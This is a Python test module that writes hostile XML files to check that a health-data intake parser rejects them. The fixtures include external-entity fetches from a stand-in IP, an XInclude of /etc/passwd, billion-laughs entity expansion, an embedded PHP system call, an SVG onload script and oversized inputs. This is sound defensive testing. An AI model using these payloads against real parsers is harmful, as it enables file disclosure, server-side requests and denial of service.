"""XML that is made to harm: as a census, and as the data set on violence."""

from __future__ import annotations

from pathlib import Path

from tests.hostile.corpus import ENTITIES, FETCHED, QUADRATIC, hostile, written
from tests.unit.intake.shapes import census, child

START = '<?xml version="1.0"?>'
ONE = "<Assault><AssaultDate>2025-01-04</AssaultDate><AssaultMethod>Knife</AssaultMethod></Assault>"


def plain(*children: str, start: str = "") -> bytes:
    """A census with this before its root element."""
    whole = census(*(children or (child(),)))
    whole = whole if isinstance(whole, bytes) else whole.encode()
    body = whole[whole.index(b"<Message") :]
    return (START + start).encode() + body


@hostile("document type or entities")
def xml_document_type(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(start='<!DOCTYPE Message SYSTEM "cin.dtd">'))


@hostile("document type or entities")
def xml_a_file_fetched(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child("&a;"), start=FETCHED))


@hostile("document type or entities")
def xml_an_address_fetched(folder: Path) -> Path:
    return written(
        folder / "cin.xml", plain(start='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.7/x.dtd"> %p;]>')
    )


@hostile("document type or entities")
def xml_billion_laughs(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child("&j;"), start=ENTITIES))


@hostile("document type or entities")
def xml_a_long_entity_many_times(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child("&a;" * 20_000), start=QUADRATIC))


@hostile("document type or entities|UTF-16")
def xml_billion_laughs_in_utf_16(folder: Path) -> Path:
    text = plain(child("&j;"), start=ENTITIES).decode().replace('"1.0"', '"1.0" encoding="UTF-16"', 1)
    return written(folder / "cin.xml", text.encode("utf-16"))


@hostile("document type or entities|no root element")
def xml_a_document_type_behind_a_long_comment(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child("&j;"), start=f"<!--{'x' * 100_000}-->{ENTITIES}"))


@hostile("unknown element", good=1)
def xml_include(folder: Path) -> Path:
    inside = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    return written(folder / "cin.xml", plain(child(inside=inside)))


@hostile("", good=1)
def xml_instructions(folder: Path) -> Path:
    start = '<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?><?php system("id") ?>'
    return written(folder / "cin.xml", plain(start=start))


@hostile("not-xml|too-long", good=0, waits=1)
def xml_100_000_deep(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child(inside="<a>" * 100_000 + "</a>" * 100_000)))


@hostile("too-long|not-xml", good=0, waits=1)
def xml_an_attribute_of_9_mb(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child(inside=f'<a b="{"x" * 9_000_000}"/>')))


@hostile("too-long|not-xml", good=0, waits=1)
def xml_a_text_of_20_mb(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child(inside=f"<a>{'x' * 20_000_000}</a>")))


@hostile("not-xml|too-long", good=0, waits=1)
def xml_100_000_attributes_of_one_name(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child(inside="<a " + "b='' " * 100_000 + "/>")))


@hostile("too-long", good=0, waits=1)
def xml_a_child_of_a_million_elements(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child(inside="<a/>" * 1_000_000)))


@hostile("not-xml|cut-short", good=0, waits=1)
def xml_half_a_tag(folder: Path) -> Path:
    return written(folder / "cin.xml", plain().rpartition(b"</Child>")[0] + b"<")


@hostile("encoding that is not read")
def xml_in_utf_7(folder: Path) -> Path:
    return written(folder / "cin.xml", plain().replace(b'"1.0"', b'"1.0" encoding="UTF-7"', 1))


@hostile("not-xml", good=0, waits=1)
def xml_with_nul(folder: Path) -> Path:
    return written(folder / "cin.xml", plain(child(inside="<a>x\0y</a>")))


@hostile("no feed that is declared")
def xml_of_something_else(folder: Path) -> Path:
    return written(folder / "cin.xml", START + "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")


@hostile("nobody may be named", good=1)
def violence_with_names(folder: Path) -> Path:
    who = "<PatientName>Jay Marsh</PatientName><NHSNumber>9990000018</NHSNumber><DateOfBirth>2010-03-04</DateOfBirth>"
    return written(folder / "istv.xml", f"{START}<ISTV>{ONE.replace('</Assault>', who + '</Assault>')}</ISTV>")


@hostile("NHS number within a text", good=1)
def violence_with_a_number_in_the_place(folder: Path) -> Path:
    place = "<AssaultLocationDescription>Wharf Steps 999 000 0018</AssaultLocationDescription>"
    return written(folder / "istv.xml", f"{START}<ISTV>{ONE.replace('</Assault>', place + '</Assault>')}</ISTV>")


@hostile("document type or entities")
def violence_with_entities(folder: Path) -> Path:
    return written(folder / "istv.xml", f"{START}{ENTITIES}<ISTV>{ONE}&j;</ISTV>")


@hostile("too-long|not-xml", good=0, waits=1)
def violence_that_never_ends(folder: Path) -> Path:
    return written(folder / "istv.xml", f"{START}<ISTV><Assault>{'<Note>x</Note>' * 300_000}</Assault></ISTV>")
